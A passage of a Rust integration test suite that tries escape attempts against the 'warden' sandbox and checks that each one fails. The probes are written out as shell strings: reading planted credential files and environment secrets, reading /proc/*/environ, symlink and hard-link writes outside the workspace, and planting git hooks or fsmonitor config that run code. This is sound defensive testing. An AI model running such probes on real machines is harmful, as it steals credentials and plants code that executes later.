//! Escape attempts run *inside* `warden sandbox` (no classification, so the sandbox itself is what
//! is tested) and judged from *outside*: did the outside file change, did the host listener get
//! bytes, is the host process still alive. Every probe is first run directly on the host against
//! the same kind of target, to show that it works there (so each test can fail).
//!
//! Linux only; the tests run as root in CI (and also work unprivileged where user namespaces are
//! allowed).

#![cfg(target_os = "linux")]

#[path = "support/unread.rs"]
mod unread;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const WARDEN: &str = env!("CARGO_BIN_EXE_warden");
const CANARY: &str = "canary-7f3e1d";

/// Credential files of tools no built-in secret path names (the denylist missed them), and
/// Warden's own checkpoint signing key: planted in every fixture's home. The old sandbox showed
/// the whole home read-only minus the denylist, so an `auto` script read every one of them.
const HOME_CREDENTIALS: [&str; 7] = [
    ".codex/auth.json",
    ".claude/.credentials.json",
    ".pgpass",
    ".my.cnf",
    ".config/containers/auth.json",
    WARDEN_KEY,
    "notes/private.txt",
];

/// Warden's checkpoint signing key (a real one: `warden run` uses it), named after the canary.
const WARDEN_KEY: &str = ".config/warden/audit.key";

/// The bytes of a signing key made by `warden audit keygen --name CANARY` (once per test run).
fn warden_key() -> &'static [u8] {
    static KEY: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    KEY.get_or_init(|| {
        let home = tempfile::Builder::new()
            .prefix("escape-key-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .expect("tempdir");
        // Run from a workspace of its own: keygen refuses to write a key into the workspace.
        let cwd = home.path().join("w");
        std::fs::create_dir_all(cwd.join(".warden")).expect("mkdir");
        let o = Command::new(WARDEN)
            .args(["audit", "keygen", "--name", CANARY])
            .env("HOME", home.path())
            .current_dir(&cwd)
            .output()
            .expect("keygen");
        assert!(o.status.success(), "{}", text(&o));
        let key = std::fs::read(home.path().join(WARDEN_KEY)).expect("key");
        assert!(String::from_utf8_lossy(&key).contains(CANARY));
        key
    })
}

/// A workspace, a fake home with planted secrets, and an outside directory, all under the cargo
/// target directory (not under /tmp, so the outside paths are *visible* in the sandbox, read-only).
struct Fixture {
    _root: tempfile::TempDir,
    ws: PathBuf,
    home: PathBuf,
    out: PathBuf,
    policy: PathBuf,
}

impl Fixture {
    fn new() -> Self {
        let root = tempfile::Builder::new()
            .prefix("escape-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .expect("tempdir");
        let ws = root.path().join("ws");
        let home = root.path().join("home");
        let out = root.path().join("outside");
        for d in [
            &ws,
            &home,
            &out,
            &ws.join(".git/hooks"),
            &ws.join(".warden"),
        ] {
            std::fs::create_dir_all(d).expect("mkdir");
        }
        std::fs::write(
            ws.join(".git/config"),
            "[core]\n\trepositoryformatversion = 0\n",
        )
        .expect("write");
        std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").expect("write");
        std::fs::write(ws.join("mine.txt"), "mine\n").expect("write");
        std::fs::write(out.join("file"), "orig\n").expect("write");
        for s in [
            ".ssh/id_rsa",
            ".aws/credentials",
            ".config/gcloud/credentials.db",
            ".kube/config",
            ".docker/config.json",
            ".netrc",
            ".git-credentials",
            ".npmrc",
            ".pypirc",
            ".gnupg/private-keys-v1.d/key",
            ".config/gh/hosts.yml",
        ]
        .into_iter()
        .chain(HOME_CREDENTIALS)
        {
            let p = home.join(s);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            if s == WARDEN_KEY {
                std::fs::write(&p, warden_key()).expect("write");
            } else {
                std::fs::write(&p, format!("{CANARY} {s}\n")).expect("write");
            }
        }
        let policy = root.path().join("policy.toml");
        std::fs::write(
            &policy,
            "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
             [sandbox]\nenv_pass = [\"OUT\"]\n\
             [sandbox.limits]\nprocesses = 777\nopen_files = 1234\n",
        )
        .expect("write");
        Self {
            _root: root,
            ws,
            home,
            out,
            policy,
        }
    }

    fn env(&self, cmd: &mut Command) {
        cmd.env("HOME", &self.home)
            .env("OUT", &self.out)
            .env("GITHUB_TOKEN", CANARY)
            .env("AWS_SECRET_ACCESS_KEY", CANARY)
            .env("OPENAI_API_KEY", CANARY)
            .env("MY_SERVICE_PASSWORD", CANARY)
            .env_remove("WARDEN_ORG_POLICY")
            .current_dir(&self.ws)
            .stdin(Stdio::null());
    }

    /// Run `script` with `sh -c` directly on the host.
    fn host(&self, script: &str) -> Output {
        let mut cmd = Command::new("sh");
        cmd.arg("-c").arg(script);
        self.env(&mut cmd);
        cmd.output().expect("run on host")
    }

    /// Run `script` with `sh -c` inside `warden sandbox`.
    fn sandbox(&self, script: &str) -> Output {
        let mut cmd = Command::new(WARDEN);
        cmd.arg("sandbox")
            .arg("--policy")
            .arg(&self.policy)
            .arg("--workspace")
            .arg(&self.ws)
            .arg("--")
            .args(["sh", "-c", script]);
        self.env(&mut cmd);
        let o = cmd.output().expect("run warden sandbox");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            !err.contains("sandbox setup failed") && !err.contains("cannot enforce"),
            "the sandbox did not start: {err}"
        );
        o
    }
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// Run the same probe on the host (must have `effect`) and in the sandbox (must not), each
/// against a fresh fixture.
fn contrast(script: &str, effect: impl Fn(&Fixture, &Output) -> bool) {
    let f = Fixture::new();
    let o = f.host(script);
    assert!(
        effect(&f, &o),
        "control: the probe must work on the host: {script}\n{}",
        text(&o)
    );
    let f = Fixture::new();
    let o = f.sandbox(script);
    assert!(
        !effect(&f, &o),
        "ESCAPE inside the sandbox: {script}\n{}",
        text(&o)
    );
}

#[test]
fn planted_secrets_in_home_are_unreadable() {
    for s in [
        ".ssh/id_rsa",
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".kube/config",
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
        ".npmrc",
        ".pypirc",
        ".gnupg/private-keys-v1.d/key",
        ".config/gh/hosts.yml",
    ] {
        contrast(&format!("cat \"$HOME/{s}\""), |_, o| {
            text(o).contains(CANARY)
        });
    }
    // Searching the whole home does not find them either.
    contrast("grep -r canary \"$HOME\" 2>/dev/null", |_, o| {
        text(o).contains(CANARY)
    });
}

/// Item 4 of the hardening issue: HOME is deny-by-default. The old sandbox bound the whole home
/// read-only and masked a denylist, so each of these `cat`s printed the canary (the control on
/// the host shows the probe works); now only listed entries are there.
#[test]
fn home_credentials_of_unlisted_tools_are_invisible() {
    for s in HOME_CREDENTIALS {
        contrast(&format!("cat \"$HOME/{s}\""), |_, o| {
            text(o).contains(CANARY)
        });
        // Not even the name is there (the old code showed every name).
        contrast(&format!("ls -a \"$HOME/{s}\""), |_, o| {
            o.status.success() && text(o).contains(s.rsplit('/').next().unwrap_or(s))
        });
    }
    // Listing the home shows only listed entries.
    let o = Fixture::new().sandbox("ls -A \"$HOME\"");
    let names = String::from_utf8_lossy(&o.stdout).into_owned();
    for hidden in [
        ".codex", ".claude", ".pgpass", ".my.cnf", "notes", ".ssh", ".aws",
    ] {
        assert!(
            !names.lines().any(|l| l == hidden),
            "{hidden} visible: {names}"
        );
    }
}

/// Warden's own signing key and state stay invisible even when the governance file lists their
/// parents (`~/.config`) or themselves, and wherever `[audit] signing_key` puts the key. Old
/// code: `~/.config/warden/audit.key` was readable by any `auto` script, which could then sign
/// forged checkpoints.
#[test]
fn wardens_own_key_and_state_are_never_visible() {
    let f = Fixture::new();
    let elsewhere = f.out.join("keys/audit.key");
    std::fs::create_dir_all(elsewhere.parent().expect("parent")).expect("mkdir");
    std::fs::write(&elsewhere, format!("{CANARY} custom key\n")).expect("write");
    std::fs::create_dir_all(f.home.join(".cache/warden")).expect("mkdir");
    std::fs::write(
        f.home.join(".cache/warden/registries.json"),
        format!("{CANARY} cache\n"),
    )
    .expect("write");
    std::fs::write(
        &f.policy,
        format!(
            "{}[sandbox]\nhome_visible = [\"~/.config\", \"~/.config/warden\", \"~/.cache\"]\n\
             [audit]\nsigning_key = \"{}\"\n",
            "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n",
            elsewhere.display()
        ),
    )
    .expect("write");
    std::fs::create_dir_all(f.home.join(".config/app")).expect("mkdir");
    std::fs::write(
        f.home.join(".config/app/settings.ini"),
        format!("{CANARY} .config/app/settings.ini\n"),
    )
    .expect("write");
    let script = format!(
        "cat \"$HOME/.config/warden/audit.key\" \"$HOME/.cache/warden/registries.json\" {}; \
         ls \"$HOME/.config\"; cat \"$HOME/.config/app/settings.ini\" \
         \"$HOME/.config/containers/auth.json\"",
        elsewhere.display()
    );
    let o = f.host(&script);
    assert_eq!(text(&o).matches(CANARY).count(), 5, "control: {}", text(&o));
    let o = f.sandbox(&script);
    let t = text(&o);
    // ~/.config itself is listed now, so its other files show (the governance file's choice)...
    assert!(
        t.contains(&format!("{CANARY} .config/app/settings.ini")),
        "{t}"
    );
    // ... but never Warden's key, cache or the configured key file, nor a built-in secret path
    // under it (a container registry's password).
    assert_eq!(
        t.matches(CANARY).count(),
        1,
        "ESCAPE: Warden's own files or a built-in secret read: {t}"
    );
}

/// What builds need stays: listed toolchains, caches and git configuration, the governance
/// file's `home_visible`, and a toolchain named by a listed variable. Secret files inside a
/// listed directory stay masked.
#[test]
fn listed_home_entries_stay_visible() {
    let f = Fixture::new();
    for (p, body) in [
        (".cargo/bin/tool", "cargo-bin\n"),
        (".cargo/credentials.toml", CANARY),
        (".rustup/settings.toml", "rustup\n"),
        (".npm/_cacache/index", "npm-cache\n"),
        (".cache/pip/http/x", "pip-cache\n"),
        (".gitconfig", "[user]\n\tname = t\n"),
        (".config/git/ignore", "git-ignore\n"),
        (".local/bin/tool", "local-bin\n"),
        (".mytool/config", "my-tool\n"),
        ("custom-go/pkg/mod/x", "gopath\n"),
    ] {
        let path = f.home.join(p);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, body).expect("write");
    }
    std::fs::write(
        &f.policy,
        "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
         [sandbox]\nhome_visible = [\"~/.mytool\"]\n",
    )
    .expect("write");
    // The write goes to a directory found at run time: `warden sandbox` opens up an outside path
    // its command line names, literally or through a constant (`d=~/.cargo/bin; echo x >
    // "$d/new"`: the caller cleared that command, DESIGN.md, "An approval grants what it
    // names"); what a script writes on its own must meet a read-only home.
    let mut cmd = Command::new(WARDEN);
    cmd.args(["sandbox", "--policy"]).arg(&f.policy).args([
        "--",
        "sh",
        "-c",
        "cat ~/.cargo/bin/tool ~/.rustup/settings.toml ~/.npm/_cacache/index ~/.cache/pip/http/x \
         ~/.config/git/ignore ~/.local/bin/tool ~/.mytool/config \"$GOPATH/pkg/mod/x\"; \
         git config --global user.name; cat ~/.cargo/credentials.toml; \
         d=$(cd ~/.cargo/bin && pwd); echo x > \"$d/new\" && echo WROTE-HOME",
    ]);
    f.env(&mut cmd);
    let o = cmd
        .env("GOPATH", f.home.join("custom-go"))
        .output()
        .expect("warden");
    let t = text(&o);
    for want in [
        "cargo-bin",
        "rustup",
        "npm-cache",
        "pip-cache",
        "git-ignore",
        "local-bin",
        "my-tool",
        "gopath",
        "\nt\n",
    ] {
        assert!(t.contains(want), "{want} not visible: {t}");
    }
    assert!(
        !t.contains(CANARY),
        "ESCAPE: credentials inside ~/.cargo: {t}"
    );
    assert!(!t.contains("WROTE-HOME"), "the home is writable: {t}");
}

/// A listed entry that is a symlink (`~/.cargo` -> elsewhere in the home, a dotfile manager's
/// absolute link under a listed `~/.config`) shows its target at the listed name, with the secret
/// paths inside it still masked there and a secret-listed entry not shown at all. (The old code
/// showed the whole home, so it had no such binds; this guards the new ones.)
#[test]
fn symlinked_home_entries_keep_their_secrets_masked() {
    let f = Fixture::new();
    let real = f.home.join("real-cargo");
    std::fs::create_dir_all(real.join("bin")).expect("mkdir");
    std::fs::write(real.join("bin/tool"), "cargo-bin\n").expect("write");
    std::fs::write(real.join("credentials.toml"), format!("{CANARY} cargo\n")).expect("write");
    std::os::unix::fs::symlink(&real, f.home.join(".cargo")).expect("symlink");
    let dot = f.out.join("dotfiles");
    std::fs::create_dir_all(&dot).expect("mkdir");
    std::fs::write(dot.join("gitconfig"), "[user]\n\tname = linked\n").expect("write");
    std::fs::create_dir_all(f.home.join(".config/git")).expect("mkdir");
    std::os::unix::fs::symlink(dot.join("gitconfig"), f.home.join(".config/git/config"))
        .expect("symlink");
    std::fs::write(f.home.join(".bashrc"), format!("export T={CANARY}\n")).expect("write");
    std::fs::write(
        &f.policy,
        "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
         [sandbox]\nhome_visible = [\"~/.config\"]\nsecret_paths = [\"~/.bashrc\"]\n",
    )
    .expect("write");
    let script = "cat ~/.cargo/bin/tool ~/.cargo/credentials.toml ~/real-cargo/credentials.toml \
                  ~/.config/git/config ~/.bashrc";
    let o = f.host(script);
    assert_eq!(text(&o).matches(CANARY).count(), 3, "control: {}", text(&o));
    let o = f.sandbox(script);
    let t = text(&o);
    assert!(
        t.contains("cargo-bin") && t.contains("name = linked"),
        "{t}"
    );
    assert!(!t.contains(CANARY), "ESCAPE: {t}");
}

/// Shell start-up files are hidden by default: people export tokens in `~/.bashrc`, `~/.profile`,
/// `~/.zshrc`, ..., and a login shell inside the sandbox (`bash -lc`) would read them, as would
/// `cat`. Old code: `data/home-visible.toml` listed them, so an `auto` script read the token from
/// `~/.bashrc` (and `bash -ic 'echo $T'` exported it). A governance file may still list one.
#[test]
fn shell_start_up_files_are_hidden_by_default() {
    const RC_FILES: [&str; 7] = [
        ".profile",
        ".bash_profile",
        ".bash_login",
        ".bashrc",
        ".zshenv",
        ".zprofile",
        ".zshrc",
    ];
    let f = Fixture::new();
    for rc in RC_FILES {
        std::fs::write(f.home.join(rc), format!("export T={CANARY}-{rc}\n")).expect("write");
    }
    let script = format!(
        "for f in {}; do cat \"$HOME/$f\"; done; bash -ic 'echo \"rc:$T\"' 2>/dev/null; \
         bash -lc 'echo \"login:$T\"' 2>/dev/null",
        RC_FILES.join(" ")
    );
    let o = f.host(&script);
    assert!(
        text(&o).matches(CANARY).count() > RC_FILES.len(),
        "control: {}",
        text(&o)
    );
    let o = f.sandbox(&script);
    let t = text(&o);
    assert!(
        !t.contains(CANARY),
        "ESCAPE: a shell start-up file read: {t}"
    );
    // A governance file that lists one shows it (the user's choice).
    std::fs::write(
        &f.policy,
        "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
         [sandbox]\nhome_visible = [\"~/.bashrc\"]\n",
    )
    .expect("write");
    let o = f.sandbox("cat \"$HOME/.bashrc\" \"$HOME/.profile\"");
    let t = text(&o);
    assert!(
        t.contains(&format!("{CANARY}-.bashrc")),
        "listed ~/.bashrc not shown: {t}"
    );
    assert!(!t.contains(&format!("{CANARY}-.profile")), "ESCAPE: {t}");
}

/// The workspace inside the home (~/src/proj) stays writable and visible, the rest of the home
/// is not; so does a workspace whose working directory is a subdirectory.
#[test]
fn a_workspace_inside_the_home_stays_mounted() {
    let f = Fixture::new();
    let ws = f.home.join("src/proj");
    std::fs::create_dir_all(ws.join("sub")).expect("mkdir");
    std::fs::write(ws.join("mine.txt"), "mine\n").expect("write");
    let mut cmd = Command::new(WARDEN);
    cmd.args(["sandbox", "--policy"])
        .arg(&f.policy)
        .arg("--workspace")
        .arg(&ws)
        .args([
            "--",
            "sh",
            "-c",
            "pwd; cat ../mine.txt && echo ok > ../made.txt; cat ~/.codex/auth.json; ls -A ~/src",
        ]);
    f.env(&mut cmd);
    let o = cmd.current_dir(ws.join("sub")).output().expect("warden");
    let t = text(&o);
    assert!(o.status.success() || t.contains("No such file"), "{t}");
    assert!(
        t.contains(&format!("{}\n", ws.join("sub").display())),
        "{t}"
    );
    assert!(t.contains("mine\n"), "{t}");
    assert_eq!(read(&ws.join("made.txt")), "ok\n", "{t}");
    assert!(!t.contains(CANARY), "ESCAPE: {t}");
}

/// A home that holds the workspace (a dotfiles repository, `warden sandbox` run in `~`) is not
/// hidden, so only the built-in secret paths stand between an `auto` script and the credentials
/// there. Before, the list named `.aws` and `.ssh` but not coding agents' sign-ins, database
/// password files, other tools' tokens or shell histories: each `cat` below printed its canary.
#[test]
fn credentials_in_a_home_that_is_the_workspace_stay_masked() {
    let f = Fixture::new();
    let secrets = [
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".gemini/oauth_creds.json",
        ".pgpass",
        ".my.cnf",
        ".config/containers/auth.json",
        ".config/rclone/rclone.conf",
        ".bash_history",
        ".zsh_history",
    ];
    for s in secrets {
        let p = f.home.join(s);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, format!("{CANARY} {s}\n")).expect("write");
    }
    std::fs::write(f.home.join("notes.txt"), "notes\n").expect("write");
    let script: String = secrets
        .iter()
        .map(|s| format!("cat \"$HOME/{s}\" 2>/dev/null; "))
        .chain(["cat notes.txt".to_owned()])
        .collect();
    let o = f.host(&format!("cd \"$HOME\" && {script}"));
    assert_eq!(
        text(&o).matches(CANARY).count(),
        secrets.len(),
        "control: {}",
        text(&o)
    );
    let mut cmd = Command::new(WARDEN);
    cmd.args(["sandbox", "--policy"])
        .arg(&f.policy)
        .arg("--workspace")
        .arg(&f.home)
        .args(["--", "sh", "-c", &script]);
    f.env(&mut cmd);
    let o = cmd.current_dir(&f.home).output().expect("warden");
    let t = text(&o);
    // The home's ordinary files are there (the workspace), its credentials are not.
    assert!(t.contains("notes\n"), "{t}");
    assert!(!t.contains(CANARY), "ESCAPE: {t}");
}

/// The home the password database gives the caller is hidden too, so a wrong `HOME` does not
/// expose the real one. Old code: the real home was entirely visible (only denylisted paths of
/// `$HOME` masked). Here the real home may hold anything; every name shown must come from a
/// list (the built-in one, or a directory on PATH / named by a toolchain variable).
#[test]
fn the_real_home_is_hidden_when_home_points_elsewhere() {
    let real = Command::new("sh")
        .args(["-c", "getent passwd \"$(id -u)\" | cut -d: -f6"])
        .output()
        .expect("getent");
    let real = String::from_utf8_lossy(&real.stdout).trim().to_owned();
    if real.is_empty() || real == "/" || !Path::new(&real).is_dir() {
        eprintln!("skipped: no usable home in the password database");
        return;
    }
    let f = Fixture::new();
    let o = f.sandbox(&format!("ls -A {real}"));
    let shown = String::from_utf8_lossy(&o.stdout).into_owned();
    let path = std::env::var("PATH").unwrap_or_default();
    let from_env: Vec<String> = std::env::split_paths(&path)
        .chain(
            [
                "CARGO_HOME",
                "RUSTUP_HOME",
                "GOPATH",
                "NVM_DIR",
                "PYENV_ROOT",
                "VIRTUAL_ENV",
            ]
            .iter()
            .filter_map(std::env::var_os)
            .map(PathBuf::from),
        )
        .filter_map(|p| {
            p.strip_prefix(&real)
                .ok()
                .and_then(|r| r.components().next())
                .map(|c| c.as_os_str().to_string_lossy().into_owned())
        })
        .collect();
    for name in shown.lines().filter(|l| !l.is_empty()) {
        let listed = warden_sandbox::BUILTIN_HOME_VISIBLE
            .iter()
            .any(|e| e.trim_start_matches("~/").split('/').next() == Some(name));
        assert!(
            listed || from_env.iter().any(|n| n == name),
            "{real}/{name} visible though nothing lists it: {shown}"
        );
    }
}

/// Item 5 of the hardening issue: the environment is allow-by-list. Old code scrubbed a
/// denylist of name patterns, so all of these but PGPASSWORD (`*PASSWORD*`) reached the command.
#[test]
fn unlisted_environment_variables_do_not_reach_the_command() {
    let secrets = [
        (
            "DATABASE_URL",
            format!("postgres://app:{CANARY}@db.invalid/app"),
        ),
        ("MYSQL_PWD", CANARY.to_owned()),
        ("PGPASSWORD", CANARY.to_owned()),
        ("CI_JOB_JWT", CANARY.to_owned()),
        ("DOCKER_AUTH_CONFIG", CANARY.to_owned()),
        (
            "SLACK_WEBHOOK_URL",
            format!("https://hooks.invalid/{CANARY}"),
        ),
        ("COOKIE", CANARY.to_owned()),
        ("JWT", CANARY.to_owned()),
        // A listed name whose value carries a password in a URL.
        (
            "PIP_INDEX_URL",
            format!("https://u:{CANARY}@pypi.invalid/simple"),
        ),
        // env_pass wins over the secret-name mask.
        ("MY_TOOL_TOKEN", "passed-on-purpose".to_owned()),
        ("MY_TOOL_SETTING", "passed-setting".to_owned()),
        ("LANG", "C.UTF-8".to_owned()),
        ("TZ", "UTC".to_owned()),
        ("CARGO_HOME", "/opt/cargo-listed".to_owned()),
    ];
    let run = |host: bool| {
        let f = Fixture::new();
        std::fs::write(
            &f.policy,
            "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
             [sandbox]\nenv_pass = [\"MY_TOOL_*\"]\n",
        )
        .expect("write");
        let script = "env; echo \"$DATABASE_URL$MYSQL_PWD$PGPASSWORD$CI_JOB_JWT$DOCKER_AUTH_CONFIG$SLACK_WEBHOOK_URL$COOKIE$JWT\"";
        let mut cmd = if host {
            let mut c = Command::new("sh");
            c.args(["-c", script]);
            c
        } else {
            let mut c = Command::new(WARDEN);
            c.args(["run", "--policy"])
                .arg(&f.policy)
                .args(["--", "sh", "-c", script]);
            c
        };
        f.env(&mut cmd);
        for (k, v) in &secrets {
            cmd.env(k, v);
        }
        let o = cmd.output().expect("run");
        let log = read(&f.ws.join(".warden/audit/audit.jsonl"));
        (o, log)
    };
    let (o, _) = run(true);
    assert!(text(&o).contains(CANARY), "control: {}", text(&o));
    let (o, log) = run(false);
    let t = text(&o);
    assert_eq!(o.status.code(), Some(0), "{t}");
    assert!(
        !t.contains(CANARY),
        "ESCAPE: a secret variable reached the command: {t}"
    );
    let stdout = String::from_utf8_lossy(&o.stdout).into_owned();
    let names: Vec<&str> = stdout
        .lines()
        .filter_map(|l| l.split_once('=').map(|(k, _)| k))
        .collect();
    for (gone, _) in &secrets[..9] {
        assert!(!names.contains(gone), "{gone} reached the command: {t}");
    }
    for kept in [
        "MY_TOOL_TOKEN",
        "MY_TOOL_SETTING",
        "LANG",
        "TZ",
        "CARGO_HOME",
        "PATH",
        "HOME",
    ] {
        assert!(names.contains(&kept), "{kept} missing inside: {t}");
    }
    // The outcome record names what was dropped (names only, never values).
    let outcome = log
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|r| r["kind"] == "outcome")
        .expect("an outcome record");
    let notes = outcome["notes"].to_string();
    for (gone, _) in &secrets[..9] {
        assert!(
            notes.contains(gone),
            "{gone} not named in the outcome: {notes}"
        );
    }
    assert!(
        notes.contains("password in value: PIP_INDEX_URL"),
        "{notes}"
    );
    // The run's seal is signed with the fixture's key, which is named after the canary: its
    // name (in the checkpoint's `key` and note signature line) is public, not a leaked value.
    let values: String = log
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|mut r| {
            if r["kind"] == "checkpoint"
                && let Some(o) = r.as_object_mut()
            {
                o.remove("key");
                o.remove("note");
            }
            r.to_string()
        })
        .collect();
    assert!(
        !values.contains(CANARY),
        "a value reached the audit log: {log}"
    );
    // Quiet on the terminal: the list goes to the record, not to stderr.
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("environment dropped"),
        "{t}"
    );
}

#[test]
fn secret_environment_variables_are_scrubbed() {
    contrast(
        "env; echo \"$GITHUB_TOKEN$AWS_SECRET_ACCESS_KEY$OPENAI_API_KEY$MY_SERVICE_PASSWORD\"",
        |_, o| text(o).contains(CANARY),
    );
    // And /proc of the sandbox's processes does not leak the supervisor's environment.
    contrast(
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
        |_, o| text(o).contains(CANARY),
    );
    // Even without Landlock (degraded mode), the init holds no secret to leak.
    let f = Fixture::new();
    let mut cmd = Command::new(WARDEN);
    cmd.args(["sandbox", "--allow-degraded", "--policy"]).arg(&f.policy).args([
        "--",
        "sh",
        "-c",
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/1/cmdline && echo READ-INIT",
    ]);
    f.env(&mut cmd);
    let o = cmd
        .env("WARDEN_SANDBOX_PRETEND_MISSING", "landlock")
        .output()
        .expect("warden");
    assert!(
        text(&o).contains("READ-INIT") && text(&o).contains("degraded"),
        "{}",
        text(&o)
    );
    assert!(
        !text(&o).contains(CANARY),
        "ESCAPE (degraded): {}",
        text(&o)
    );
}

#[test]
fn writes_outside_the_workspace_do_not_land() {
    let changed = |f: &Fixture, _: &Output| read(&f.out.join("file")) != "orig\n";
    contrast("echo pwned > \"$OUT/file\"", changed);
    contrast("echo pwned >> \"$OUT/file\"", changed);
    contrast("rm -f \"$OUT/file\"", changed);
    contrast("touch \"$OUT/new\"", |f, _| f.out.join("new").exists());
    // The workspace itself is writable (so the sandbox is not simply read-only everywhere).
    let f = Fixture::new();
    let o = f.sandbox("echo ok > inside.txt");
    assert_eq!(read(&f.ws.join("inside.txt")), "ok\n", "{}", text(&o));
}

#[test]
fn the_hosts_tmp_is_private() {
    let host_tmp = tempfile::Builder::new()
        .prefix("warden-escape-")
        .tempdir()
        .expect("tmp");
    let target = host_tmp.path().join("t");
    std::fs::write(&target, "orig\n").expect("write");
    let script = format!("echo pwned > {0}; cat {0}", target.display());
    let o = Fixture::new().host(&script);
    assert_eq!(read(&target), "pwned\n", "control: {}", text(&o));
    std::fs::write(&target, "orig\n").expect("write");
    let o = Fixture::new().sandbox(&script);
    assert_eq!(
        read(&target),
        "orig\n",
        "ESCAPE: host /tmp written: {}",
        text(&o)
    );
    let o = Fixture::new().sandbox("ls -a /tmp");
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains("warden-escape-"),
        "host /tmp is visible: {}",
        text(&o)
    );
}

#[test]
fn symlinks_do_not_lead_outside() {
    let changed = |f: &Fixture, _: &Output| read(&f.out.join("file")) != "orig\n";
    // A pre-planted symlink (created by the fixture before the run).
    let planted = |script: &str| {
        let f = Fixture::new();
        std::os::unix::fs::symlink(f.out.join("file"), f.ws.join("link")).expect("symlink");
        (f.host(script), f)
    };
    let (o, f) = planted("echo pwned > link");
    assert!(changed(&f, &o), "control: {}", text(&o));
    let f = Fixture::new();
    std::os::unix::fs::symlink(f.out.join("file"), f.ws.join("link")).expect("symlink");
    let o = f.sandbox("echo pwned > link");
    assert!(!changed(&f, &o), "ESCAPE via planted symlink: {}", text(&o));
    // A symlink made inside the run; a directory symlink; `..` and /proc/self/root.
    contrast(
        "ln -s \"$OUT/file\" newlink && echo pwned > newlink",
        changed,
    );
    contrast(
        "ln -s \"$OUT\" dirlink && echo pwned > dirlink/file",
        changed,
    );
    contrast("echo pwned > \"$PWD/../outside/file\"", changed);
    contrast("echo pwned > \"/proc/self/root$OUT/file\"", changed);
    contrast("echo pwned > \"/proc/$$/root$OUT/file\"", changed);
}

#[test]
fn hard_links_and_renames_do_not_cross_the_boundary() {
    let changed = |f: &Fixture, _: &Output| read(&f.out.join("file")) != "orig\n";
    contrast("ln \"$OUT/file\" hl && echo pwned >> hl", changed);
    contrast("mv mine.txt \"$OUT/moved.txt\"", |f, _| {
        f.out.join("moved.txt").exists()
    });
    contrast("mv \"$OUT/file\" stolen", |f, _| {
        !f.out.join("file").exists()
    });
}

#[test]
fn repository_metadata_that_runs_code_is_read_only() {
    contrast("echo 'touch /tmp/x' > .git/hooks/pre-commit", |f, _| {
        f.ws.join(".git/hooks/pre-commit").exists()
    });
    contrast(
        "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config",
        |f, _| read(&f.ws.join(".git/config")).contains("hooksPath"),
    );
    contrast("echo 'version = 1' > .warden/policy.toml", |f, _| {
        f.ws.join(".warden/policy.toml").exists()
    });
    // A workspace without `.warden/` cannot gain a governance file either.
    let absent = |script: &str, host: bool| {
        let f = Fixture::new();
        std::fs::remove_dir_all(f.ws.join(".warden")).expect("rm");
        let o = if host {
            f.host(script)
        } else {
            f.sandbox(script)
        };
        (f.ws.join(".warden/policy.toml").exists(), text(&o))
    };
    let script = "mkdir -p .warden && echo 'version = 1' > .warden/policy.toml";
    assert!(absent(script, true).0, "control");
    let (planted, out) = absent(script, false);
    assert!(!planted, "ESCAPE: planted .warden/policy.toml: {out}");
    // Nor can a repository whose `.git/hooks` or `.git/config` is missing gain one.
    let missing = |gone: &str, script: &str, planted: &str, host: bool| {
        let f = Fixture::new();
        let p = f.ws.join(gone);
        if p.is_dir() {
            std::fs::remove_dir_all(&p).expect("rm");
        } else {
            std::fs::remove_file(&p).expect("rm");
        }
        let o = if host {
            f.host(script)
        } else {
            f.sandbox(script)
        };
        (read(&f.ws.join(planted)), text(&o))
    };
    for (gone, script, planted, needle) in [
        (
            ".git/hooks",
            "mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/pre-commit",
            ".git/hooks/pre-commit",
            "touch",
        ),
        (
            ".git/config",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' > .git/config",
            ".git/config",
            "fsmonitor",
        ),
    ] {
        assert!(
            missing(gone, script, planted, true).0.contains(needle),
            "control: {script}"
        );
        let (content, out) = missing(gone, script, planted, false);
        assert!(
            !content.contains(needle),
            "ESCAPE: planted {planted} where it was missing: {out}"
        );
    }
    // A linked worktree's `.git` file cannot be pointed at a directory the command wrote.
    let worktree = |host: bool| {
        let f = Fixture::new();
        std::fs::remove_dir_all(f.ws.join(".git")).expect("rm");
        std::fs::write(
            f.ws.join(".git"),
            "gitdir: /nonexistent/main/.git/worktrees/ws\n",
        )
        .expect("write");
        let script = "mkdir -p evil/hooks && echo 'gitdir: evil' > .git";
        let o = if host {
            f.host(script)
        } else {
            f.sandbox(script)
        };
        (read(&f.ws.join(".git")), text(&o))
    };
    assert!(worktree(true).0.contains("evil"), "control");
